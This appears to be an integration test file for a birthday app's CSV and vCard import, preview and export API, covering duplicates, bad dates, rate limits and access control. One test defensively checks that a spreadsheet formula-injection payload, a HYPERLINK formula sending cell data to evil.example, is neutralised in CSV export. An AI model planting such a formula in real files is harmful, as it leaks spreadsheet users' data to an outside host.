import { GET as exportRoute } from "@/app/api/birthdays/export/route";
import { POST as importRoute } from "@/app/api/birthdays/import/route";
import { POST as previewRoute } from "@/app/api/birthdays/import/preview/route";
import { MAX_BIRTHDAYS_PER_USER } from "@/lib/birthdays/limits";
import { db } from "@/lib/db";
import { readImport } from "@/lib/contacts/import";
import { translatorFor } from "@/lib/http/translate";
import { conflictBody } from "../support/errors";
import en from "@/messages/en.json";
import lt from "@/messages/lt.json";
import ru from "@/messages/ru.json";
import { testSql } from "../setup/database";
import { jsonRequest, noParams, signedInUser } from "../support/auth";
import { storedBirthdays } from "../support/birthdays";

const headers = (cookie?: string): Record<string, string> => (cookie ? { cookie } : {});
const preview = (body: unknown, cookie?: string) =>
  previewRoute(jsonRequest("POST", "/api/birthdays/import/preview", body, headers(cookie)), noParams);
const importFile = (body: unknown, cookie?: string) =>
  importRoute(jsonRequest("POST", "/api/birthdays/import", body, headers(cookie)), noParams);
const exportFile = (format: string, cookie?: string) =>
  exportRoute(jsonRequest("GET", `/api/birthdays/export?format=${format}`, undefined, headers(cookie)), noParams);

async function allBirthdays() {
  return (await testSql("SELECT * FROM birthdays ORDER BY id")).rows;
}

async function storedBirthday(userId: number, name: string, date: string, birthYear: number | null = null) {
  const [, month, day] = date.split("-").map(Number);
  return db().birthday.create({ data: { userId, name, date, month: month!, day: day!, birthYear } });
}

const csv = [
  "Name;Birthday;Email;Notes",
  "Bob Jones;15.07.1990;bob@example.com;Likes tea",
  "Ona Žukauskienė;--02-29;;",
  ";1990-01-01;;",
  "Bad Date;31.04.1990;;",
  "BOB JONES;1991-07-15;;",
  "Existing;--03-01;;",
].join("\r\n");

const vcard = [
  "BEGIN:VCARD",
  "VERSION:4.0",
  "FN:Пётр Иванов",
  "BDAY;VALUE=date:--0715",
  "NOTE:Line one\\nline two",
  "END:VCARD",
  "BEGIN:VCARD",
  "VERSION:3.0",
  "FN:Ann",
  "EMAIL:not-an-address",
  "BDAY:19850102",
  "END:VCARD",
].join("\r\n");

describe("without a session", () => {
  it("answers 401 to preview, import and export and writes nothing", async () => {
    const ann = await signedInUser();
    await storedBirthday(ann.user.id, "Bob", "1990-05-01", 1990);
    const before = await allBirthdays();
    for (const response of [
      await preview({ format: "csv", content: csv }),
      await importFile({ format: "csv", content: csv }),
      await exportFile("csv"),
      await exportFile("vcard", "confetti_session=made-up"),
    ]) {
      expect(response.status).toBe(401);
      expect(await response.json()).toEqual({ error: { code: "unauthorized", message: en.errors.unauthorized } });
    }
    expect(await allBirthdays()).toEqual(before);
  });
});

describe("POST /api/birthdays/import/preview", () => {
  it("shows candidates with their lines and skipped rows with reasons, and saves nothing", async () => {
    const { user, cookie } = await signedInUser();
    await storedBirthday(user.id, "existing", "2000-03-01");
    const before = await allBirthdays();
    const response = await preview({ format: "csv", content: csv }, cookie);
    expect(response.status).toBe(200);
    expect(await response.json()).toEqual({
      candidates: [
        { line: 2, name: "Bob Jones", date: "1990-07-15", birthYear: 1990, email: "bob@example.com", notes: "Likes tea" },
        { line: 3, name: "Ona Žukauskienė", date: "2000-02-29", birthYear: null, email: null, notes: null },
      ],
      skipped: [
        { line: 4, reason: "missingName" },
        { line: 5, reason: "invalidDate", name: "Bad Date" },
        { line: 6, reason: "duplicateInFile", name: "BOB JONES" },
        { line: 7, reason: "duplicateExisting", name: "Existing" },
      ],
      ambiguousDates: false,
      dateOrder: null,
    });
    expect(await allBirthdays()).toEqual(before);
  });

  it("skips a name or notes with a control character or a direction override as not allowed, not as missing or too long", async () => {
    const { cookie } = await signedInUser();
    const content = "Name,Birthday,Notes\nA\u0007B,1990-07-15,\nC\u202eD,1990-07-16,\nAnn,1990-07-17,\nBo,1990-07-18,ring\u0007";
    const response = await preview({ format: "csv", content }, cookie);
    expect(response.status).toBe(200);
    const body = await response.json();
    expect(body.skipped).toEqual([
      { line: 2, reason: "nameInvalidCharacters", name: "A\u0007B" },
      { line: 3, reason: "nameInvalidCharacters", name: "C\u202eD" },
      // The same in the notes: not "longer than 2000 characters".
      { line: 5, reason: "notesInvalidCharacters", name: "Bo" },
    ]);
    expect(body.candidates).toMatchObject([{ line: 4, name: "Ann" }]);
  });

  it("offers a CSV row with a bad e-mail address without the address, and says so", async () => {
    const { cookie } = await signedInUser();
    const content = "Name,Birthday,Email\nBob,1990-07-15,bob@\nAnn,--03-01,ann@example.com";
    const response = await preview({ format: "csv", content }, cookie);
    expect(response.status).toBe(200);
    expect((await response.json()).candidates).toEqual([
      { line: 2, name: "Bob", date: "1990-07-15", birthYear: 1990, email: null, notes: null, invalidEmail: "bob@" },
      { line: 3, name: "Ann", date: "2000-03-01", birthYear: null, email: "ann@example.com", notes: null },
    ]);
  });

  it("reports dates that read both ways and applies the chosen order", async () => {
    const { cookie } = await signedInUser();
    const content = "Name,Birthday\nAnn,03/04/1990";
    const dayFirst = await (await preview({ format: "csv", content }, cookie)).json();
    expect(dayFirst).toMatchObject({ ambiguousDates: true, dateOrder: "dmy", candidates: [{ date: "1990-04-03" }] });
    const monthFirst = await (await preview({ format: "csv", content, dateOrder: "mdy" }, cookie)).json();
    expect(monthFirst).toMatchObject({ dateOrder: "mdy", candidates: [{ date: "1990-03-04" }] });
  });

  it("answers 400 with field messages for a body that is not an import", async () => {
    const { cookie } = await signedInUser();
    const response = await preview({ format: "xlsx" }, cookie);
    expect(response.status).toBe(400);
    expect(await response.json()).toMatchObject({
      error: { code: "validation_failed", fields: { format: en.validation.invalid, content: en.validation.required } },
    });
  });
});

describe("POST /api/birthdays/import", () => {
  it("saves the candidates of a vCard file for this user only, one without its bad e-mail address, and reports it", async () => {
    const { user, cookie } = await signedInUser();
    const other = await signedInUser("eve@example.com");
    const response = await importFile({ format: "vcard", content: vcard }, cookie);
    expect(response.status).toBe(200);
    expect(await response.json()).toEqual({
      imported: 2,
      skipped: [],
      emailsLeftOut: [{ line: 7, name: "Ann", email: "not-an-address" }],
    });
    const rows = await db().birthday.findMany({ orderBy: { id: "asc" } });
    expect(rows).toHaveLength(2);
    expect(rows[0]).toMatchObject({
      userId: user.id,
      name: "Пётр Иванов",
      date: "2000-07-15",
      month: 7,
      day: 15,
      birthYear: null,
      notes: "Line one\nline two",
    });
    // A bad e-mail address costs the entry only its address.
    expect(rows[1]).toMatchObject({ userId: user.id, name: "Ann", date: "1985-01-02", birthYear: 1985, email: null });
    expect(await db().birthday.count({ where: { userId: other.user.id } })).toBe(0);
  });

  it("skips duplicates in the file and of stored birthdays; importing the same file again adds nothing", async () => {
    const { user, cookie } = await signedInUser();
    await storedBirthday(user.id, "EXISTING", "1980-03-01", 1980);
    const first = await (await importFile({ format: "csv", content: csv }, cookie)).json();
    expect(first).toMatchObject({ imported: 2 });
    expect(first.skipped.map((entry: { reason: string }) => entry.reason)).toEqual([
      "missingName",
      "invalidDate",
      "duplicateInFile",
      "duplicateExisting",
    ]);
    expect(await db().birthday.count({ where: { userId: user.id } })).toBe(3);

    const again = await (await importFile({ format: "csv", content: csv }, cookie)).json();
    expect(again.imported).toBe(0);
    expect(again.skipped.filter((entry: { reason: string }) => entry.reason === "duplicateExisting")).toHaveLength(3);
    expect(await db().birthday.count({ where: { userId: user.id } })).toBe(3);
  });

  it("saves each birthday once when the same file is imported twice at the same time", async () => {
    const { user, cookie } = await signedInUser();
    const results = await Promise.all([
      importFile({ format: "vcard", content: vcard }, cookie),
      importFile({ format: "vcard", content: vcard }, cookie),
    ]);
    const imported = await Promise.all(results.map(async (response) => (await response.json()).imported));
    expect(imported.sort()).toEqual([0, 2]);
    expect(await db().birthday.count({ where: { userId: user.id } })).toBe(2);
  });

  it.each([
    ["en", en],
    ["lt", lt],
    ["ru", ru],
  ] as const)("refuses a malformed, a binary, a huge and an overfull file in %s and saves nothing", async (locale, messages) => {
    const { cookie: session } = await signedInUser();
    const cookie = `${session}; NEXT_LOCALE=${locale}`;
    const before = await allBirthdays();
    const cases: [unknown, number, string, string][] = [
      [{ format: "csv", content: "Bob,1990-01-01\nAnn,1991-01-01" }, 400, "bad_request", messages.errors.importCsvColumns],
      [{ format: "vcard", content: csv }, 400, "bad_request", messages.errors.importNoContacts],
      [{ format: "csv", content: "\u0000\u0001PK\u0003\u0004" }, 400, "bad_request", messages.errors.importNotText],
      [
        { format: "csv", content: `Name,Birthday,Notes\nBob,--01-01,${"x".repeat(1024 * 1024)}` },
        413,
        "payload_too_large",
        messages.errors.importTooLarge.replace("{megabytes}", "1"),
      ],
      [
        { format: "csv", content: ["Name,Birthday", ...Array.from({ length: 5001 }, (_, i) => `P${i},--01-01`)].join("\n") },
        413,
        "payload_too_large",
        expect.stringContaining("5"),
      ],
    ];
    for (const [body, status, code, message] of cases) {
      for (const send of [importFile, preview]) {
        const response = await send(body, cookie);
        expect(response.status).toBe(status);
        expect(await response.json()).toEqual({ error: { code, message } });
      }
    }
    expect(await allBirthdays()).toEqual(before);
  });
});

describe("import rate limit", () => {
  it.each(["en", "lt", "ru"] as const)("answers a translated 429 in %s after 30 previews and imports in ten minutes, for that user only", async (locale) => {
    const { user, cookie: session } = await signedInUser();
    const cookie = `${session}; NEXT_LOCALE=${locale}`;
    const content = "Name,Birthday\nBob,1990-07-15";
    for (let attempt = 0; attempt < 15; attempt += 1) {
      expect((await preview({ format: "csv", content }, cookie)).status).toBe(200);
      expect((await importFile({ format: "csv", content }, cookie)).status).toBe(200);
    }
    for (const send of [preview, importFile]) {
      const response = await send({ format: "csv", content }, cookie);
      expect(response.status).toBe(429);
      const retryAfter = Number(response.headers.get("retry-after"));
      expect(retryAfter).toBeGreaterThan(0);
      expect(await response.json()).toEqual({
        error: {
          code: "rate_limited",
          message: translatorFor(locale)("errors.importRateLimited", { minutes: Math.ceil(retryAfter / 60) }),
        },
      });
    }
    expect(await db().birthday.count({ where: { userId: user.id } })).toBe(1);
    const other = await signedInUser("eve@example.com");
    expect((await preview({ format: "csv", content }, other.cookie)).status).toBe(200);
  });
});

describe("the limit on birthdays per account", () => {
  // Two new birthdays; "Friend 1" on 4 March is already stored (storedBirthdays) and is not counted.
  const content = "Name,Birthday\nAnn,1990-01-01\nBen,1990-01-02\nFriend 1,2000-03-04";

  it.each(["en", "lt", "ru"] as const)(
    "refuses in %s, at preview and at import, a file that would pass the limit, saying how many there are and would be added",
    async (locale) => {
      const { user, cookie: session } = await signedInUser();
      const cookie = `${session}; NEXT_LOCALE=${locale}`;
      await storedBirthdays(user.id, MAX_BIRTHDAYS_PER_USER - 1);
      const before = await allBirthdays();
      for (const send of [preview, importFile]) {
        const response = await send({ format: "csv", content }, cookie);
        expect(response.status).toBe(409);
        expect(await response.json()).toEqual(
          conflictBody(locale, "importOverBirthdayLimit", { max: MAX_BIRTHDAYS_PER_USER, count: MAX_BIRTHDAYS_PER_USER - 1, adding: 2 }),
        );
      }
      expect(await allBirthdays()).toEqual(before);
    },
  );

  it("lets an account already past the limit import a file that adds nothing", async () => {
    const { user, cookie } = await signedInUser();
    await storedBirthdays(user.id, MAX_BIRTHDAYS_PER_USER + 5);
    const onlyDuplicates = { format: "csv", content: "Name,Birthday\nFriend 1,2000-03-04" };
    expect((await preview(onlyDuplicates, cookie)).status).toBe(200);
    const response = await importFile(onlyDuplicates, cookie);
    expect(response.status).toBe(200);
    expect((await response.json()).imported).toBe(0);
  });

  it("imports a file that fills the account exactly", async () => {
    const { user, cookie } = await signedInUser();
    await storedBirthdays(user.id, MAX_BIRTHDAYS_PER_USER - 2);
    expect((await preview({ format: "csv", content }, cookie)).status).toBe(200);
    const response = await importFile({ format: "csv", content }, cookie);
    expect(response.status).toBe(200);
    expect((await response.json()).imported).toBe(2);
    expect(await db().birthday.count({ where: { userId: user.id } })).toBe(MAX_BIRTHDAYS_PER_USER);
  });
});

describe("GET /api/birthdays/export", () => {
  it("downloads only the user's own birthdays as CSV with a BOM, which imports back the same", async () => {
    const { user, cookie } = await signedInUser();
    const other = await signedInUser("eve@example.com");
    await storedBirthday(user.id, "Ona, Žukauskienė", "2000-02-29");
    await storedBirthday(user.id, "Пётр", "1990-07-15", 1990);
    await storedBirthday(other.user.id, "Secret", "1980-01-01", 1980);

    const response = await exportFile("csv", cookie);
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toBe('attachment; filename="confetti-birthdays.csv"');
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder().decode(bytes);
    expect(text).not.toContain("Secret");
    expect(readImport({ format: "csv", content: text }).candidates).toEqual([
      { line: 2, name: "Ona, Žukauskienė", date: "2000-02-29", birthYear: null, email: null, notes: null },
      { line: 3, name: "Пётр", date: "1990-07-15", birthYear: 1990, email: null, notes: null },
    ]);
  });

  it("downloads a vCard file that imports back the same", async () => {
    const { user, cookie } = await signedInUser();
    await storedBirthday(user.id, "Ann", "1985-01-02", 1985);
    const response = await exportFile("vcard", cookie);
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/vcard; charset=utf-8");
    expect(response.headers.get("content-disposition")).toBe('attachment; filename="confetti-birthdays.vcf"');
    const text = await response.text();
    expect(text.startsWith("BEGIN:VCARD\r\nVERSION:3.0\r\n")).toBe(true);
    expect(readImport({ format: "vcard", content: text }).candidates).toEqual([
      { line: 1, name: "Ann", date: "1985-01-02", birthYear: 1985, email: null, notes: null },
    ]);
  });

  it("neutralises a formula that came in through a vCard in the CSV export, and keeps the vCard export exact", async () => {
    const { user, cookie } = await signedInUser();
    const formula = '=HYPERLINK("https://evil.example/?d="&A1,"Open")';
    const content = ["BEGIN:VCARD", "VERSION:3.0", `FN:${formula.replace(/,/g, "\\,")}`, "BDAY:1990-07-15", "NOTE:+1 555 0100", "END:VCARD"].join("\r\n");
    expect(await (await importFile({ format: "vcard", content }, cookie)).json()).toMatchObject({ imported: 1 });
    expect(await db().birthday.findFirst({ where: { userId: user.id } })).toMatchObject({ name: formula, notes: "+1 555 0100" });

    const csvText = await (await exportFile("csv", cookie)).text();
    expect(csvText.split("\r\n")[1]).toBe(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""Open"")",1990-07-15,,"'+1 555 0100"`);
    const vcardText = await (await exportFile("vcard", cookie)).text();
    expect(vcardText).toContain(`FN:${formula.replace(/,/g, "\\,")}\r\n`);
    expect(vcardText).toContain("NOTE:+1 555 0100\r\n");
    for (const [format, text] of [["csv", csvText], ["vcard", vcardText]] as const) {
      expect(readImport({ format, content: text }).candidates).toEqual([
        { line: expect.any(Number), name: formula, date: "1990-07-15", birthYear: 1990, email: null, notes: "+1 555 0100" },
      ]);
    }
  });

  it("answers 400 for an unknown format", async () => {
    const { cookie } = await signedInUser();
    const response = await exportFile("xlsx", cookie);
    expect(response.status).toBe(400);
    expect(await response.json()).toMatchObject({ error: { code: "validation_failed", fields: { format: en.validation.invalid } } });
  });
});
